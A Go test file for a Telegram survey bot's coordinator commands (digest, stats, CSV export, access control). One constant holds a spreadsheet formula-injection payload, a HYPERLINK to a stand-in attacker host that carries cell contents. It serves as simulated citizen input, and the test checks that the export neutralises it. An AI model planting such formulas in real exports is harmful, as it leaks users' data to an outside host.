package bot_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"strconv"
	"strings"
	"testing"

	"github.com/cosie/cosiebot/bot"
)

const hyperlink = `=HYPERLINK("http://evil.example/?q="&A1,"Click me")`

// coordinatorHistory runs three citizens through Turku: two complete, one
// stops at question 2; one of them types a spreadsheet formula.
func coordinatorHistory(t *testing.T, e *env) []*citizen {
	t.Helper()
	c1 := e.citizen(777000501, "fi")
	c1.turkuTo("ask_idea")
	c1.say(hyperlink)
	c1.press(":ask_followup_ok:no")

	c2 := e.citizen(777000502, "sv")
	c2.turkuTo("ask_reason")
	c2.press(":ask_reason:other")
	c2.say("bussen går för sällan")
	c2.press(":ask_idea:_skip")
	c2.press(":ask_followup_ok:no")

	c3 := e.citizen(777000503, "en")
	c3.turkuTo("ask_reason")
	return []*citizen{c1, c2, c3}
}

// coordinator sends a command as a coordinator would, in a private chat.
func (e *env) command(user int64, lang, text string) []event {
	e.t.Helper()
	mark := e.rec.mark()
	in := bot.Inbound{UpdateID: e.nextUpdate(), ChatID: user, UserID: user, Private: true, Lang: lang, FirstName: "Coordinator", Text: text}
	if err := e.svc.Handle(e.ctx, in); err != nil {
		e.t.Fatalf("%s: %v", text, err)
	}
	var out []event
	for _, ev := range e.rec.since(mark) {
		if ev.Chat == user {
			out = append(out, ev)
		}
	}
	return out
}

func TestCoordinatorCommands(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOptions{flows: allShipped(t), coordinators: coordinators})
	citizens := coordinatorHistory(t, e)

	t.Run("digest", func(t *testing.T) {
		got := e.command(9001, "en", "/digest")
		if len(got) != 1 {
			t.Fatalf("got %+v", got)
		}
		text := got[0].Msg.Text
		for _, want := range []string{
			"📊 Turku youth services: 2026-02-24 to 2026-03-02",
			"👥 3 new participants",
			"✅ Completed: 2 of 3 (67%)",
			"main_reason — 2 answers",
			"bussen går för sällan",
			"🌐 Languages: en 1 · fi 1 · sv 1",
		} {
			if !strings.Contains(text, want) {
				t.Errorf("the digest lacks %q:\n%s", want, text)
			}
		}
	})
	t.Run("stats", func(t *testing.T) {
		got := e.command(9002, "fi", "/stats turku")
		if len(got) != 1 || !strings.HasPrefix(got[0].Msg.Text, "📈 Turun nuorten palvelut: koko ajalta") {
			t.Fatalf("got %+v", got)
		}
		if !strings.Contains(got[0].Msg.Text, "Vastattu loppuun: 2 / 3 (67 %)") {
			t.Errorf("stats:\n%s", got[0].Msg.Text)
		}
	})
	t.Run("export", func(t *testing.T) {
		got := e.command(9001, "en", "/export")
		if len(got) != 1 || got[0].Kind != "doc" {
			t.Fatalf("got %+v, want one document", got)
		}
		doc := got[0]
		if doc.Name != "turku-20260302.csv" {
			t.Errorf("document name %q", doc.Name)
		}
		if want := "Answers from Turku youth services. Number of dialogues: 3."; !strings.Contains(doc.Text, want) {
			t.Errorf("caption %q", doc.Text)
		}
		if !bytes.HasPrefix(doc.Data, []byte("\xef\xbb\xbf")) {
			t.Fatalf("no byte order mark: %q", doc.Data[:10])
		}
		rows, err := csv.NewReader(bytes.NewReader(doc.Data[3:])).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		header := "dialogue,participant,started,language,flow_version,source,overall_experience,main_reason,suggestion,followup_ok,helped_later,what_changed"
		if got := strings.Join(rows[0], ","); got != header {
			t.Fatalf("header %s\nwant   %s", got, header)
		}
		if len(rows) != 4 {
			t.Fatalf("%d rows, want a header and 3 dialogues:\n%s", len(rows), doc.Data)
		}
		for i, c := range citizens {
			row := rows[i+1]
			// Named by their pseudonym in this pilot, never the one
			// every pilot's data is stored under.
			pid := e.svc.PilotPseudonym("turku", c.pseudonym())
			if row[0] != pid+"-1" || row[1] != pid || row[3] != c.lang || strings.Contains(string(doc.Data), c.pseudonym()) {
				t.Errorf("row %d: %q", i+1, row)
			}
			if bytes.Contains(doc.Data, []byte(c.pseudonym())) {
				t.Errorf("the export holds the pseudonym %s", c.pseudonym())
			}
		}
		if got := rows[1][8]; got != "'"+hyperlink {
			t.Errorf("the formula is exported as %q, want it quoted with '", got)
		}
		if got := rows[2][7]; got != "other: bussen går för sällan" {
			t.Errorf("other text exported as %q", got)
		}
		if got := rows[1][2]; got != "2026-03-02T10:00:00+02:00" {
			t.Errorf("started %q, want the pilot's local time", got)
		}
		for _, c := range citizens {
			if bytes.Contains(doc.Data, []byte(strconv.FormatInt(c.id, 10))) {
				t.Errorf("the export holds the Telegram id %d", c.id)
			}
		}
		if bytes.Contains(doc.Data, []byte("Zebulon")) {
			t.Error("the export holds a first name")
		}
	})
	t.Run("others get command.unknown", func(t *testing.T) {
		for _, cmd := range []string{"/digest", "/stats", "/export", "/digest turku", "/export turku"} {
			got := e.command(citizens[0].id, "fi", cmd)
			if len(got) != 1 || got[0].Kind != "send" || got[0].Msg.Text != say(t, "fi", "command.unknown") {
				t.Errorf("%s from a citizen: %+v", cmd, got)
			}
		}
	})
	t.Run("another pilot is refused", func(t *testing.T) {
		for _, cmd := range []string{"/digest hull", "/stats nowhere", "/export hull"} {
			got := e.command(9001, "en", cmd)
			if len(got) != 1 || got[0].Msg.Text != say(t, "en", "coord.only") {
				t.Errorf("%s: %+v", cmd, got)
			}
		}
	})
	t.Run("pilot ids are not case-sensitive", func(t *testing.T) {
		got := e.command(9001, "en", "/digest Turku")
		if len(got) != 1 || !strings.HasPrefix(got[0].Msg.Text, "📊 Turku youth services") {
			t.Errorf("got %+v", got)
		}
	})
	t.Run("the coordinator's language is remembered for scheduled digests", func(t *testing.T) {
		e.command(9001, "sv-FI", "/stats")
		mark := e.rec.mark()
		f := shippedFlow(t, "turku")
		from, to := bot.LastDays(f, e.clock.Now(), 7)
		if err := e.svc.SendDigest(e.ctx, "turku", from, to, "slot-sv"); err != nil {
			t.Fatal(err)
		}
		sv := e.rec.texts(9001, mark)
		if len(sv) != 1 || !strings.HasPrefix(sv[0], "📊 Åbo stads ungdomstjänster: 2026-02-24 till 2026-03-02") {
			t.Errorf("coordinator 9001 (Swedish) got %q", sv)
		}
		// 9002 last used Finnish.
		fi := e.rec.texts(9002, mark)
		if len(fi) != 1 || !strings.HasPrefix(fi[0], "📊 Turun nuorten palvelut: 2026-02-24–2026-03-02") {
			t.Errorf("coordinator 9002 (Finnish) got %q", fi)
		}
	})
}

func TestCoordinatorDefaults(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOptions{coordinators: coordinators})
	// Nothing yet.
	if got := e.command(9001, "en", "/export"); len(got) != 1 || got[0].Msg.Text != say(t, "en", "export.empty") {
		t.Fatalf("/export with no answers: %+v", got)
	}
	if got := e.command(9001, "en", "/digest"); len(got) != 1 || !strings.HasSuffix(got[0].Msg.Text, say(t, "en", "digest.none")) {
		t.Fatalf("/digest with no answers: %+v", got)
	}
	// A coordinator who never wrote gets the pilot's first language.
	f := shippedFlow(t, "turku")
	from, to := bot.LastDays(f, e.clock.Now(), 7)
	mark := e.rec.mark()
	if err := e.svc.SendDigest(e.ctx, "turku", from, to, "slot-1"); err != nil {
		t.Fatal(err)
	}
	if got := e.rec.texts(9002, mark); len(got) != 1 || !strings.Contains(got[0], say(t, "fi", "digest.none")) {
		t.Fatalf("got %q", got)
	}
	// A slot's digest goes once, whoever asks again.
	mark = e.rec.mark()
	if err := e.svc.SendDigest(e.ctx, "turku", from, to, "slot-1"); !errors.Is(err, bot.ErrDone) {
		t.Fatalf("the same slot again: err = %v, want ErrDone", err)
	}
	if got := e.rec.texts(9002, mark); len(got) != 0 {
		t.Fatalf("the same slot again sent %q", got)
	}
	if err := e.svc.SendDigest(e.ctx, "atlantis", from, to, "slot-x"); err == nil {
		t.Fatal("SendDigest for an unknown pilot returned no error")
	}
	// A coordinator who blocked the bot does not stop the others.
	e.rec.block(9001)
	mark = e.rec.mark()
	if err := e.svc.SendDigest(e.ctx, "turku", from, to, "slot-2"); err != nil {
		t.Fatal(err)
	}
	if got := e.rec.texts(9002, mark); len(got) != 1 {
		t.Fatalf("got %q", got)
	}
	// Coordinators are the flow's plus the configured ones, without repeats.
	if got := e.svc.Coordinators("turku"); len(got) != 2 || got[0] != 9001 || got[1] != 9002 {
		t.Fatalf("Coordinators: %v", got)
	}
}
